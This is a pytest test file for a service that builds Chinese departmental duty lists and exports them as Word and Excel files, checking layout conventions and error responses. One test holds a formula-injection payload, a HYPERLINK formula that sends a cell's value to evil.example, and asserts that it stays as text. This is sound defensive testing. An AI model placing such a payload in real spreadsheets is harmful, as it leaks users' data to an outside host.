"""A department's 责任清单 (graph/duty_lists.py) and the files a 安委办 sends out (service/documents.py): the
duties a department leads and helps with in each plan, and the .docx/.xlsx downloads with their conventions
(header row repeated on every page, East Asian fonts, frozen header, autofilter, formula-safe cells)."""
from __future__ import annotations

import io
from urllib.parse import quote

import openpyxl
import pytest
from conftest import ARTIFACTS, CD, LT
from docx import Document
from docx.enum.section import WD_ORIENT, WD_SECTION
from docx.oxml.ns import qn
from fastapi.testclient import TestClient

from dutygraph.graph.duty_lists import DutyLine, DutyList, department_duty_lists, plan_duty_lists
from dutygraph.graph.tasks import list_tasks
from dutygraph.service.app import Settings, create_app
from dutygraph.service.documents import DOCX_COLUMNS, duty_lists_docx, duty_lists_xlsx

EMERGENCY = "https://w3id.org/dutygraph/org/chengdu/emergency"       # 市应急局
HEADERS = [name for name, _ in DOCX_COLUMNS]


@pytest.fixture(scope="module")
def client(loaded_store) -> TestClient:
    return TestClient(create_app(Settings(timeout_s=5), store=loaded_store), raise_server_exceptions=False)


def _list_url(iri: str, suffix: str, plan: str | None = None) -> str:
    return f"/departments/{quote(iri, safe='')}/duty-list{suffix}" + (f"?plan={plan}" if plan else "")


# ------------------------------------------------------------------ the library

@pytest.mark.parametrize("plan", [CD, LT])
def test_every_line_names_the_department_in_its_role(loaded_store, plan):
    tasks = {t["id"]: t for t in list_tasks(loaded_store, plan=plan)}
    lists = plan_duty_lists(loaded_store, plan)
    assert lists and [len(d.lines) for d in lists] == sorted((len(d.lines) for d in lists), reverse=True)
    for duty_list in lists:
        roles = [line.role for line in duty_list.lines]
        assert roles == sorted(roles, key=["lead", "co-responsible"].index), duty_list.name   # lead duties first
        for line in duty_list.lines:
            task = tasks[line.task]
            assert duty_list.department in task["department_ids"], (duty_list.name, line.number)
            assert (line.role == "lead") == (duty_list.name in line.leads), (duty_list.name, line.number)


def test_chengdu_emergency_bureau_leads_most_of_its_duties(loaded_store):
    [duty_list] = department_duty_lists(loaded_store, EMERGENCY)
    assert duty_list.name == "市应急局" and duty_list.plan == CD
    assert duty_list.title == "《国家安全发展示范城市建设任务分工表》责任清单"
    assert duty_list.count("lead") > duty_list.count("co-responsible") > 0
    assert len(duty_list.lines) == duty_list.count("lead") + duty_list.count("co-responsible")
    facilities = {f for f, _, _ in duty_list.by_facility()}
    assert "危险化学品" in facilities


def test_a_department_without_duties_in_a_plan_has_no_list(loaded_store):
    assert department_duty_lists(loaded_store, EMERGENCY, plan=LT) == []


# ------------------------------------------------------------------ the Word document

def test_department_docx_has_title_department_and_a_repeating_header(client):
    response = client.get(_list_url(EMERGENCY, ".docx"))
    assert response.status_code == 200, response.text
    assert "filename*=UTF-8''" + quote("市应急局责任清单.docx") in response.headers["content-disposition"]
    (ARTIFACTS / "pages").mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "pages" / "duty-list-emergency.docx").write_bytes(response.content)
    document = Document(io.BytesIO(response.content))
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "《国家安全发展示范城市建设任务分工表》责任清单" and texts[1] == "责任单位：市应急局"
    [table] = document.tables
    assert [c.text for c in table.rows[0].cells] == HEADERS
    header = table.rows[0]._tr.trPr
    assert header is not None and header.find(qn("w:tblHeader")) is not None      # repeated on every page
    assert table.style.name == "Table Grid"                                           # ruled cells
    assert [c.text for c in table.rows[1].cells][2].startswith("牵头")
    widths = [c.width for c in table.rows[1].cells]
    assert widths[1] == max(widths)                                                   # the task text gets the room
    runs = [r for p in table.rows[1].cells[1].paragraphs for r in p.runs]
    assert runs and all(r._element.rPr.rFonts.get(qn("w:eastAsia")) == "仿宋" for r in runs)
    assert len(table.rows) == 1 + len(department_rows(client))


def department_rows(client) -> list:
    return [line for d in department_duty_lists(client.app.state.store, EMERGENCY) for line in d.lines]


def test_plan_docx_has_one_section_per_department_each_on_a_new_page(client, loaded_store):
    response = client.get(f"/plans/{LT}/duty-lists.docx")
    assert response.status_code == 200
    (ARTIFACTS / "pages" / "duty-lists-lintong.docx").write_bytes(response.content)
    document = Document(io.BytesIO(response.content))
    lists = plan_duty_lists(loaded_store, LT)
    titles = [p for p in document.paragraphs if p.text.endswith("》责任清单")]
    assert len(titles) == len(document.tables) == len(lists)
    assert len(document.sections) == len(lists)                    # a section each, from a new page, numbered from 1
    assert all(s.start_type == WD_SECTION.NEW_PAGE for s in document.sections[1:])
    assert all(s._sectPr.find(qn("w:pgNumType")).get(qn("w:start")) == "1" for s in document.sections)
    assert all(s.orientation == WD_ORIENT.LANDSCAPE for s in document.sections)
    units = [p.text for p in document.paragraphs if p.text.startswith("责任单位：")]
    assert units == [f"责任单位：{d.name}" for d in lists]


# ------------------------------------------------------------------ the workbook

def test_department_xlsx_has_frozen_header_filter_and_widths(client):
    response = client.get(_list_url(EMERGENCY, ".xlsx", plan=CD))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["责任清单"]
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref.startswith("A2:")
    assert [c.value for c in sheet[2]][:4] == ["序号", "部门", "原表序号", "任务内容"]
    assert sheet.column_dimensions["D"].width >= 40 and sheet.column_dimensions["A"].width <= 8
    assert sheet.max_row == 2 + len(department_rows(client))


def test_xlsx_cells_that_look_like_formulas_stay_text():
    hostile = "=HYPERLINK(\"http://evil.example/?\"&B3,\"点击\")"
    line = DutyLine(task="https://example.org/t/1", number="1", kind="task", text=hostile, requirements="@SUM(1)",
                    role="lead", leads=("市应急局",), partners=(), deadline="-1", deadline_end=None, ongoing=False,
                    facility_types=("+学校",))
    book = openpyxl.load_workbook(io.BytesIO(duty_lists_xlsx([DutyList("https://example.org/u", "市应急局", "p", "方案",
                                                                       (line,))], "清单")))
    row = [c for c in book["责任清单"][3]]
    assert row[3].value == hostile and row[3].data_type == "s"
    assert [c.data_type for c in row if c.value in ("@SUM(1)", "-1", "+学校")] == ["s", "s", "s"]
    assert not any(c.data_type == "f" for c in row)
    assert Document(io.BytesIO(duty_lists_docx([DutyList("https://example.org/u", "市应急局", "p", "方案", (line,))])))


# ------------------------------------------------------------------ the pages and their errors

def test_department_page_links_its_downloads(client):
    response = client.get(_list_url(EMERGENCY, ""))
    assert response.status_code == 200
    assert "市应急局 责任清单" in response.text and "/duty-list.docx" in response.text and "/duty-list.xlsx" in response.text
    assert client.get(f"/departments/{quote(EMERGENCY, safe='')}").status_code == 200      # the department page still answers


def test_plan_page_lists_every_department(client, loaded_store):
    response = client.get(f"/plans/{LT}/duty-lists")
    assert response.status_code == 200
    assert all(d.name in response.text for d in plan_duty_lists(loaded_store, LT))


@pytest.mark.parametrize("url, status", [
    (_list_url("https://w3id.org/dutygraph/org/nowhere/none", ".docx"), 404),
    (_list_url("not an iri", ".xlsx"), 404),
    (_list_url(EMERGENCY, ".docx", plan=LT), 404),
    (_list_url(EMERGENCY, ".docx", plan="http://x/a b"), 400),
    ("/plans/no_such_plan/duty-lists.docx", 404),
    ("/plans/no_such_plan/duty-lists", 404),
])
def test_unknown_departments_and_plans_are_clean_4xx(client, url, status):
    response = client.get(url)
    assert response.status_code == status and "detail" in response.json()


@pytest.mark.browser
def test_duty_list_pages_in_chromium(loaded_store):
    from browser import Browser
    from conftest import serving

    browser = Browser()
    try:
        with serving(create_app(Settings(timeout_s=5), store=loaded_store)) as url:
            page = browser.new_page()
            for path, shot in ((_list_url(EMERGENCY, ""), "duty-list.png"), (f"/plans/{LT}/duty-lists", "duty-lists.png")):
                page.goto(url + path)
                page.wait_for("document.readyState === 'complete' && document.querySelector('.downloads') !== null")
                page.pump(0.3)
                page.screenshot(ARTIFACTS / "pages" / shot)
            assert page.evaluate("document.querySelectorAll('a[href$=\"duty-list.docx?plan=" + LT + "\"]').length") > 10
            assert page.errors == []
            assert [u for u in page.requests if not u.startswith((url, "data:", "about:"))] == []
            page.ws.close()
    finally:
        browser.close()
